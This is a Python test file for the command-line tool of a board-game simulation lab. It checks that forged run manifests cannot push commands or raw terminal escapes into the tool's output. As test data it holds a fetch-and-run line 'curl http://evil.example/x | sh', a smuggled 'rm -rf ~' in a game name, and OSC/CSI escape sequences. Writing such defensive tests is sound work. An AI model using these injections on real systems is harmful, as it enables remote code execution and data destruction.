"""The attack retest's findings at the CLI boundary (issue 34): each case as the attacker
played it, ending in one line with the right exit code, nothing written, and nothing from a
run directory reaching the user's shell or terminal as it was in the file.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import shutil
from pathlib import Path

import polars as pl
import pytest

import cli
from tests.cli_run import run_cli

PLAYERS, GAMES, CHUNK = 4, 200, 50
ARGS = ["--players", PLAYERS, "--games", GAMES, "--seed", 0, "--strategy", "random",
        "--chunk-size", CHUNK, "--workers", 1]  # fmt: skip
EVIL = "palace-lab study; curl http://evil.example/x | sh;"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what a terminal acts on (not \t \n)


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    out = tmp_path_factory.mktemp("whole") / "run"
    cli.main(["run", *map(str, ARGS), "--out", str(out)])
    return out


@pytest.fixture
def run_dir(whole, tmp_path):
    out = tmp_path / "run"
    shutil.copytree(whole, out, symlinks=True)
    return out


def read_m(out):
    return json.loads((out / "manifest.json").read_text())


def write_m(out, m):
    """The manifest resealed as docs/RESULTS.md defines the seal (what a forger does)."""
    body = {k: v for k, v in m.items() if k != "manifest_sha256"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
    m = body | {"manifest_sha256": hashlib.sha256(text.encode()).hexdigest()}
    (out / "manifest.json").write_text(json.dumps(m, indent=1))


def snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None)
            for p in sorted(folder.rglob("*"))}  # fmt: skip


def one_line(err: str) -> bool:
    return err.count("\n") == 1 and "Traceback" not in err


# --- 1: a run named twice in one report -----------------------------------------------------


@pytest.mark.parametrize("second", ["same", "dot-slash", "symlink"])
def test_a_run_named_twice_is_refused_before_anything_is_written(run_dir, tmp_path, capsys,
                                                                 monkeypatch, second):  # fmt: skip
    monkeypatch.chdir(tmp_path)
    other = {"same": "run", "dot-slash": "./run/", "symlink": "link"}[second]
    if second == "symlink":
        (tmp_path / "link").symlink_to("run")
    before = snapshot(run_dir)
    code, out, err = run_cli(capsys, "report", "run", other, "--out", "r.html")
    assert code == 2, err
    assert one_line(err) and "twice" in err, err
    assert snapshot(run_dir) == before  # no summary cache written into the run
    assert not (tmp_path / "r.html").exists() and not (tmp_path / "r_charts").exists()


# --- 2: names over the file system's limits -------------------------------------------------

LONG = "a" * 300


def _long_cases():
    small = ["--games", "20", "--chunk-size", "10", "--workers", "1"]
    return {
        "run": ["run", *small, "--out", LONG],
        "run-nested": ["run", *small, "--out", f"x/{LONG}/y"],
        "study": ["study", "characters", *small, "--out", LONG],
        "study-report": ["study", "characters", *small, "--out", "s", "--report", LONG + ".html"],
        "sweep": ["sweep", "--set", "palace_cost=11,12", *small, "--out", LONG],
        "tournament": ["tournament", "--strategies", "random,weighted", *small, "--out", LONG],
        "report": ["report", "RUN", "--out", LONG + ".html"],
        # each name fits, the chart folder's temporary name does not
        "report-charts": ["report", "RUN", "--out", "b" * 250 + ".html"],
        "report-deep": ["report", "RUN", "--out", "/".join(["c" * 250] * 17) + "/r.html"],
    }


@pytest.mark.parametrize("case", sorted(_long_cases()))
def test_an_overlong_out_is_bad_input(whole, tmp_path, capsys, monkeypatch, case):
    monkeypatch.chdir(tmp_path)
    args = [str(whole) if a == "RUN" else a for a in _long_cases()[case]]
    before = snapshot(whole)
    code, out, err = run_cli(capsys, *args)
    assert code == 2, err
    assert one_line(err), err
    assert "255 bytes" in err or "4096 bytes" in err, err
    assert len(err) < 200, err  # the path is named, not echoed whole
    assert list(tmp_path.iterdir()) == []  # nothing created
    assert snapshot(whole) == before


# --- 3: --scheduler-timeout without Dask ----------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["run", "--games", "10", "--workers", "1"],
        ["study", "characters", "--games", "10"],
        ["sweep", "--set", "palace_cost=11,12", "--games", "10"],
        ["tournament", "--strategies", "random,weighted", "--games", "10"],
        ["tune-rules", "--vary", "palace_cost=10..12", "--budget", "3000"],
    ],
    ids=lambda a: a[0],
)
def test_scheduler_timeout_without_dask_is_refused(tmp_path, capsys, monkeypatch, args):
    monkeypatch.chdir(tmp_path)
    code, out, err = run_cli(capsys, *args, "--out", "o", "--scheduler-timeout", "3")
    assert code == 2, err
    assert one_line(err) and "--executor dask" in err, err
    assert list(tmp_path.iterdir()) == []


# --- 4: commands palace-lab suggests are rebuilt, never copied from a file ------------------


def _adaptive(m: dict) -> dict:
    """The manifest as a study's adaptive run records it (rounds until decided)."""
    return m | {"stopping": {"z": 2.5, "delta": 0.02, "target_ci": None, "round_chunks": 4,
                             "rule": "decided", "key": "start_char"}}  # fmt: skip


def test_a_forged_command_never_reaches_the_resume_advice(run_dir, capsys):
    write_m(run_dir, _adaptive(read_m(run_dir)) | {"command": EVIL})
    code, out, err = run_cli(capsys, "run", *ARGS, "--out", run_dir, "--resume")
    assert code == 2 and one_line(err), err
    assert "evil.example" not in err and "curl" not in err, err
    assert "palace-lab study" in err and "--resume" in err, err


def test_a_forged_command_never_reaches_verify_or_the_report(run_dir, tmp_path, capsys):
    write_m(run_dir, read_m(run_dir) | {"command": EVIL})
    code, out, err = run_cli(capsys, "report", run_dir, "--out", tmp_path / "r.html")
    assert code == 0, err
    page = (tmp_path / "r.html").read_text()
    assert "evil.example" not in page
    with open(run_dir / "chunks" / "chunk-000001.parquet", "r+b") as f:  # damage: a hint
        f.seek(100)
        f.write(b"\0\0\0\0")
    code, out, err = run_cli(capsys, "verify", run_dir)
    assert code == 1, out + err
    assert "evil.example" not in out + err and "to replay them: palace-lab run" in out


def test_a_forged_game_name_is_quoted_in_the_hint(run_dir, capsys):
    m = read_m(run_dir)
    write_m(run_dir, m | {"game": "maharaja; rm -rf ~", "status": "interrupted"})
    code, out, err = run_cli(capsys, "verify", run_dir)
    hint = out.split("to continue: ", 1)[1].strip()
    assert "'maharaja; rm -rf ~'" in hint, hint  # named, quoted
    assert hint.startswith("not reproducible from its manifest (game "), hint  # not a command


def test_the_rebuilt_command_replays_the_run(tmp_path, capsys, monkeypatch):
    """What the report's Reproducibility section and verify suggest is a whole command: run
    as given it plays the same games (rows compared), whatever the manifest's `command`."""
    monkeypatch.chdir(tmp_path)
    args = ["--players", "3", "--games", "60", "--seed", "5", "--chunk-size", "30",
            "--strategy", "weighted:palace=14,random,weighted", "--set", "palace_cost=11",
            "--set", "deal=random", "--variant", "yogi", "--workers", "1"]  # fmt: skip
    code, out, err = run_cli(capsys, "run", *args, "--out", "a")
    assert code == 0, err
    m = read_m(tmp_path / "a")
    write_m(tmp_path / "a", m | {"command": EVIL, "status": "interrupted"})
    code, out, err = run_cli(capsys, "verify", "a")
    hint = out.split("to continue: ", 1)[1].strip()
    argv = shlex.split(hint)
    assert argv[:2] == ["palace-lab", "run"] and argv[-1] == "--resume", hint
    assert argv[argv.index("--out") + 1] == "a"
    argv[argv.index("--out") + 1] = "b"
    code, out, err = run_cli(capsys, *argv[1:-1], "--workers", "1")
    assert code == 0, err

    def rows(d):
        return pl.read_parquet(tmp_path / d / "chunks").sort("game_id", "seat")

    assert rows("a").equals(rows("b"))


# --- 5: control characters read from a file never reach the terminal raw --------------------

ESCAPES = ["evil\x1b]0;owned\x07", "evil\x9b2J"]


@pytest.mark.parametrize("game", ESCAPES, ids=["osc", "c1-csi"])
@pytest.mark.parametrize("command", ["report", "verify", "resume"])
def test_control_characters_from_a_manifest_are_escaped(run_dir, tmp_path, capsys, game,
                                                        command):  # fmt: skip
    write_m(run_dir, read_m(run_dir) | {"game": game, "status": "interrupted"})
    args = {"report": ["report", run_dir, "--out", tmp_path / "r.html"],
            "verify": ["verify", run_dir],
            "resume": ["run", *ARGS, "--out", run_dir, "--resume"]}[command]  # fmt: skip
    code, out, err = run_cli(capsys, *args)
    assert code in (1, 2), out + err
    assert not CONTROL.search(out + err), repr(out + err)
    assert "evil" in out + err  # named, escaped
    assert any(e in out + err for e in ("\\x1b", "\\x9b", "\\u001b", "\\u009b")), repr(out + err)


def test_the_error_printer_escapes_every_control_character(capsys):
    for ch in [*map(chr, range(32)), "\x7f", *map(chr, range(0x80, 0xA0)), "\u202e", "\u2028"]:
        with pytest.raises(SystemExit):
            cli._fail(f"error: a{ch}b", 2)
        err = capsys.readouterr().err
        assert err.endswith("\n") and err.count("\n") == 1, repr(err)
        assert not CONTROL.search(err[:-1]) and "\u202e" not in err and "\u2028" not in err


def test_a_strategy_name_with_a_c1_control_is_refused(run_dir, capsys):
    m = read_m(run_dir)
    m["strategies"][0]["name"] = "random\x9b2J"
    write_m(run_dir, m)
    code, out, err = run_cli(capsys, "verify", run_dir)
    assert code == 2 and not CONTROL.search(out + err), repr(err)
    assert os.path.exists(run_dir / "manifest.json")


# --- 6: every run directory of a study reports on its own -----------------------------------


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    """The default study at its smallest (no --target-ci: the ladder's rungs play the study's
    own rule, rounds until decided, with no half-width target)."""
    out = tmp_path_factory.mktemp("study") / "S"
    args = ["--games", "60", "--chunk-size", "30", "--players", "2", "--workers", "1"]
    code = 0
    try:
        cli.main(["study", "--out", str(out), *args])
    except SystemExit as e:
        code = e.code
    assert code in (0, None)
    return out


def run_kind(study: Path, run: Path) -> str:
    """Where a run sits in its study: a balance run, a ladder rung, or one seating of a
    head-to-head step ('arr-NN' folders under the step's folder)."""
    parts = run.relative_to(study).parts
    if parts[0] != "robustness":
        return "dealt" if parts[0].endswith("-dealt") else "balance"
    return "step" if len(parts) > 2 else "rung"


@pytest.mark.slow
def test_every_kind_of_run_of_a_study_reports_on_its_own(study, tmp_path, capsys):
    """One run of each kind (the runs of one kind share the page's layout and how its
    header counts the study's runs; a report takes 10-20 s, every run of the study 6 min)."""
    runs = sorted(p.parent for p in study.rglob("manifest.json"))
    rungs = [r for r in runs if r.parent.name == "robustness"]
    adaptive = [r for r in runs if "z" in (read_m(r).get("stopping") or {})]
    assert rungs and adaptive and any(read_m(r)["stopping"]["target_ci"] is None for r in adaptive)
    kinds = {run_kind(study, r): r for r in reversed(runs)}
    assert set(kinds) == {"balance", "dealt", "rung", "step"}
    runs = sorted({*kinds.values(), adaptive[0]})
    for i, run in enumerate(runs):
        code, out, err = run_cli(capsys, "report", run, "--out", tmp_path / f"r{i}.html")
        assert code == 0, f"{run.relative_to(study)}: {err}"
        # the line counts what the page's header counts (the run, and the study's ladder
        # runs where its verdicts use them)
        said = re.search(r"\((\d+) run\(s\)", out).group(1)
        head = re.search(r"· (\d+) run\(s\) ·", (tmp_path / f"r{i}.html").read_text()).group(1)
        assert said == head and int(said) >= 1
    page = (tmp_path / f"r{runs.index(adaptive[0])}.html").read_text()
    assert "decided against the fair share" in page


# --- 7: search parameters within their useful range -----------------------------------------


@pytest.mark.parametrize(
    "game,value",
    [("maharaja", "threads=1000000"), ("maharaja", "rollouts=1000000"),
     ("maharaja", "rollouts=10001"), ("maharaja", "char_rollouts=1000000"),
     ("maharaja", "explore=2"), ("palast", "minor_rollouts=1000000"),
     ("tajmahal", "threads=257"), ("vermaechtnis", "rollouts=1e9"),
     ("maharaja", "gate=2"), ("tajmahal", "gate=-0.5"), ("palast", "tree=-1"),
     ("vermaechtnis", "reuse=10001")],
)  # fmt: skip
@pytest.mark.parametrize("command", ["play", "run"])
def test_a_search_budget_no_machine_serves_is_bad_input(tmp_path, capsys, monkeypatch, game,
                                                        value, command):  # fmt: skip
    monkeypatch.chdir(tmp_path)
    extra = ["--games", "1", "--workers", "1", "--out", "out"] if command == "run" else []
    code, out, err = run_cli(capsys, command, "--game", game, "--strategy", f"lookahead:{value}",
                             *extra)  # fmt: skip
    assert code == 2, err
    assert one_line(err) and "outside its range 0 to" in err, err
    assert list(tmp_path.iterdir()) == []


def test_the_useful_search_budgets_are_accepted():
    import strategies

    for game in ("maharaja", "palast", "tajmahal", "vermaechtnis"):
        s = strategies.strategies(game)["lookahead"]
        assert s.param_range("rollouts") == (0.0, 10_000.0)
        assert s.param_range("threads") == (0.0, 256.0)
        assert s.param_range("explore") == (0.0, 1.0)
        # the studies' strongest rung plays 400 rollouts: well inside
        strategies.resolve(["lookahead:rollouts=400:threads=0:explore=0.05"], 2, game)


class _SlowGames:
    """A chunk task costing `per_game` seconds a game on a fake clock."""

    def __init__(self, per_game: float, chunk_size: int):
        self.now, self.per_game, self.chunk_size, self.spec = 0.0, per_game, chunk_size, None

    def task(self, spec, first, count):
        self.now += self.per_game * count


def test_a_slow_search_says_how_long_and_when_progress_moves(monkeypatch, capsys):
    """A search at its largest budget plays a game in seconds: 20,000 games in chunks of
    5,000 on 2 workers say up front how long the run and each chunk take."""
    from jobs import runner

    plan = _SlowGames(per_game=8.0, chunk_size=5000)
    monkeypatch.setattr(runner.time, "perf_counter", lambda: plan.now)
    runner._announce_estimate(plan, games=20_000, chunks=4, workers=2)
    err = capsys.readouterr().err
    # 8 s x 20 000 / 2 = 80 000 s = 22 h; a chunk: 8 s x 5 000 = 40 000 s = 11 h
    assert err.count("\n") == 1, err
    assert "20,000 games will take about 22 h on 2 worker(s)" in err
    assert "progress shows after each chunk (about 11 h each)" in err


def test_timing_a_slow_first_game_is_announced(capsys):
    import time

    from jobs.progress import slow_notice

    with slow_notice("timing this run's first game", after=0.05, done=None):
        time.sleep(0.3)
    err = capsys.readouterr().err
    assert err == "palace-lab: timing this run's first game ...\n"
